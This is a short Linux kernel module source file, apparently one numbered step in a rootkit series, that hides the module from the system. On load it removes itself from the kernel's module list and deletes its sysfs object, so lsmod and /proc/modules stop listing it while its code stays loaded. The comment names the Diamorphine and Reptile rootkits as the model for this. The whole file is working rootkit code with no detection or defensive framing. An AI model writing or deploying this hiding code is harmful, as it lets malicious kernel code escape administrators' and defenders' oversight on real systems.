// SPDX-License-Identifier: GPL-2.0
/*
 * 10. Hide from the module list and sysfs, as Diamorphine and Reptile do:
 * unlink THIS_MODULE from `modules` and delete its kobject. lsmod and
 * /proc/modules no longer show it; its code stays loaded.
 */
#include <linux/module.h>
#include <linux/kobject.h>
#include <linux/rculist.h>

static int __init rk_init(void)
{
	list_del_rcu(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("rk_hide: hidden\n");
	return 0;
}

module_init(rk_init);
MODULE_LICENSE("GPL");
